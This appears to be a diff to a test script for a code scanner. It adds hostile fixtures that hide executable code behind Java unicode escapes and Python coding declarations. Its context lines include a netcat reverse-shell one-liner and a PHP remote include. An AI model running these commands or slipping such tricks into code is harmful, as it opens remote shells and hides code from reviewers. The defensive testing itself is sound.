@@ -318,6 +318,14 @@ EOF
 hostile escape-line 'comment-trick=ask@src/X[.]java' 'an escape that ends a comment' <<'EOF'
 printf 'class X {\n// \\u000a Runtime.getRuntime().exec("id");\n}\n' >src/X.java
 EOF
+hostile cookie-second 'encoding=ask@src/x[.]py encoding=ask@src/y[.]py' 'an encoding behind a word that looks like one' <<'EOF'
+printf '# vim encoding, see -*- coding: utf-7 -*-\nx = 1 # +AAo-print(1)\n' >src/x.py
+printf '# encodings: coding=raw_unicode_escape\nx = 1\n' >src/y.py
+EOF
+hostile escape-many 'comment-trick=ask@src/X[.]java comment-trick=ask@src/Y[.]java' 'escapes with more than one u, and one that ends a comment' <<'EOF'
+printf '// \\uuu000a Runtime.getRuntime().exec("x");\n' >src/X.java
+printf '/* \\u002a\\u002f Runtime.getRuntime().exec("x"); /* */\n' >src/Y.java
+EOF
 hostile shells 'remote-shell=block@scripts/a[.]sh remote-shell=block@web/x[.]php remote-shell=block@src/x[.]py' 'shells for somebody elsewhere, as they are usual' <<'EOF'
 printf 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 9 >/tmp/f\n' >scripts/a.sh
 printf '<?php include $_GET["p"];\n' >web/x.php
